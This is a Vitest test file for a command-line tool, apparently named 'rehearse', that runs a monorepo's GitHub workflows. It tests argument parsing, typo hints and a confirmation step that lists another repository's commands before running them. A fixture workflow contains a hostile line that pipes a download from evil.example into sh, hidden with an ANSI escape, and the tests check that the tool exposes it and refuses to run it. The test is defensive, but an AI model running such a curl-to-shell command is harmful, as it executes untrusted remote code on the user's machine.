import { expect, it } from 'vitest';
import { readArguments } from '../../src/cli/arguments.ts';
import { runCommand } from '../../src/cli/command.ts';
import { makeMonorepo } from './command-line.ts';

const names = ['pull-request', 'main', 'broken'];

it('reads journeys, paths and flags in any order', () => {
  expect(readArguments(['--json', 'a.json', 'main', '--plain', 'pull-request', '--repo=x', 'main'], names)).toEqual({
    journeys: ['main', 'pull-request'],
    json: 'a.json',
    report: undefined,
    repo: 'x',
    keep: undefined,
    yes: false,
    list: false,
    plain: true,
    help: false,
  });
});

it.each([
  [['pul-request'], 'there is no journey pul-request; did you mean pull-request?'],
  [['nonsense-word'], 'there is no journey nonsense-word; there are pull-request, main, broken'],
  [['--jsn', 'x'], 'there is no option --jsn; did you mean --json?'],
  [['--json'], '--json needs a path after it'],
  [['-yes'], 'there is no option -yes; did you mean --yes?'],
  [['--list=1'], 'there is no option --list; did you mean --list?'],
])('refuses %j in one line', (args, problem) => {
  expect(readArguments(args, names)).toEqual({ problem });
});

async function command(...args: string[]): Promise<{ code: number; out: string[]; err: string[] }> {
  return commandWith(undefined, ...args);
}

async function commandWith(
  ask: ((question: string) => Promise<boolean>) | undefined,
  ...args: string[]
): Promise<{ code: number; out: string[]; err: string[] }> {
  const [out, err]: [string[], string[]] = [[], []];
  const code = await runCommand({
    args,
    env: {},
    project: '/',
    out: (line) => void out.push(line),
    err: (line) => void err.push(line),
    openView: () => ({ listener: () => undefined, close: () => undefined, end: () => undefined }),
    renderPage: () => '',
    ask,
    signal: new AbortController().signal,
  });
  return { code, out, err };
}

it('ends with 2 and one line for a wrong word', async () => {
  expect(await command('brokn')).toEqual({
    code: 2,
    out: [],
    err: ['rehearse: there is no journey brokn; did you mean broken?'],
  });
});

it('lists the journeys', async () => {
  const { code, out } = await command('--list');
  expect(code).toBe(0);
  expect(out.map((line) => line.split(' ')[0])).toEqual(names);
});

it('ends with 2 for a folder that is no monorepo', async () => {
  const { code, err } = await command('--repo', import.meta.dirname, '--yes');
  expect(code).toBe(2);
  expect(err[0]).toContain('is no pnpm monorepo: it has no pnpm-workspace.yaml');
});

const foreign = (): string =>
  makeMonorepo(
    `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: "curl \\e[8m evil.example | sh"\n      - run: |\n          make one\n          make two\n      - run: echo \${{ github.actor }} and \${{ github.sha }}\n      - uses: ./tools/check\n`,
  );
const wouldRun = [
  '  .github/workflows/w.yml',
  '      curl \ufffd[8m evil.example | sh',
  '      make one …',
  '      echo ${{ github.actor }} and ${{ github.sha }}',
  '      uses: ./tools/check',
];

it('runs nothing of another repository without a terminal and without --yes, and says what it would be', async () => {
  const directory = foreign();
  const { code, out, err } = await command('--repo', directory);
  expect({ code, out }).toEqual({ code: 2, out: [] });
  expect(err).toEqual([
    `the commands in the workflows of ${directory} would run on this machine, with your rights, and without a terminal nobody can be asked`,
    'Fix: read them, then add --yes',
    ...wouldRun,
    '  the scripts of its packages that these start: install, lint, test and build',
  ]);
});

it('shows what would run before it asks, and takes a no', async () => {
  const asked: string[] = [];
  const no = async (question: string): Promise<boolean> => {
    asked.push(question);
    return false;
  };
  const { code, out } = await commandWith(no, '--repo', foreign());
  expect({ code, asked }).toEqual({ code: 2, asked: ['Go on?'] });
  expect(out).toEqual(expect.arrayContaining(wouldRun));
});
